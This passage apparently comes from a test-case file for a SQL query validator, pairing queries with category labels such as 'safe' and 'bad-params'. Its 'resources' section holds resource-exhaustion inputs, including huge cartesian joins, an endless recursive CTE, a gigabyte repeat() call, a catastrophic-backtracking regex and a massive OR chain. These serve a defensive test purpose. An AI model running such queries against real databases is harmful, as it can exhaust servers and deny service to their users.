SELECT hash_record(c) FROM customers c

-- clause or construct | safe
SELECT xmlforest(name, token) FROM customers

-- clause or construct | safe
SELECT XMLELEMENT(NAME x, name) FROM customers

-- clause or construct | safe
SELECT * FROM customers CONNECT BY id = 1

-- clause or construct | safe
SELECT TOP 5 * FROM customers

-- clause or construct | safe
PIVOT customers ON city

-- clause or construct | safe
FROM customers

-- clause or construct | safe
SELECT * FROM customers QUALIFY row_number() OVER () = 1

-- clause or construct | safe
SELECT * EXCEPT (id) FROM customers

-- clause or construct | safe
SELECT nextval FROM customers_id_seq

-- clause or construct | safe
SELECT last_value FROM customers_id_seq

-- clause or construct | safe
SELECT OPERATOR(pg_catalog.+) 1

-- clause or construct | safe
SELECT 1 OPERATOR(public.+) 2

-- clause or construct | safe
SELECT * FROM json_table('[1]', '$[*]' COLUMNS (a int PATH '$'))

-- clause or construct | safe
SELECT id COLLATE "C" FROM customers

-- clause or construct | safe
SELECT name COLLATE public.x FROM customers

-- parameters | bad-params,safe
SELECT $1

-- parameters | bad-params
SELECT $2

-- parameters | bad-params,syntax,not-supported
SELECT $0

-- parameters | bad-params,syntax,not-supported
SELECT ?

-- parameters | bad-params,syntax,not-supported,safe
SELECT id FROM customers WHERE id = $99999999999999999999

-- resources | safe
SELECT count(*) FROM customers a, customers b, customers c, customers d, orders e

-- resources | safe
SELECT * FROM generate_series(1, 1000000000000)

-- resources | safe
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n

-- resources | safe
SELECT repeat('x', 1000000000)

-- resources | safe
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' ~ '(a+)+$b'

-- resources | safe
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- resources | safe
SELECT true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR 